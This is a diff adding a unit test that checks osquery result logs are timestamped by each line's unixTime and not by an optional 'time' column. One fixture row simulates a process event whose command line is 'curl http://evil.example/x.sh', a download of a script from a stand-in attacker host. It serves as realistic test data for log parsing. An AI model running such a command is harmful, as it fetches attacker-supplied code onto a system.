@@ -110,4 +110,24 @@ describe('JSON from more producers', () => {
     ]);
     expect(rows[1]?.message).toBe('Server down?');
   });
+
+  it('osquery results: timed by the time every line has, not a result column "time" only some queries return', async () => {
+    const result = (name: string, unixTime: number, columns: Record<string, string>) =>
+      JSON.stringify({
+        name,
+        hostIdentifier: 'web-01',
+        calendarTime: new Date(unixTime * 1000).toUTCString().replace('GMT', 'UTC'),
+        unixTime,
+        decorations: { username: 'alice' },
+        columns,
+        action: 'added',
+      });
+    const lines = [
+      result('logged_in_users', 1709640000, { host: '203.0.113.9', time: '1709639990', user: 'alice' }),
+      result('process_events', 1709640005, { cmdline: 'curl http://evil.example/x.sh', pid: '4242' }),
+    ].join('\n');
+    const { invalid, rows } = await read(lines, 'osqueryd.results.log');
+    expect(invalid).toEqual([]);
+    expect(rows.map((row) => row.at)).toEqual(['2024-03-05T12:00:00.000Z', '2024-03-05T12:00:05.000Z']);
+  });
 });
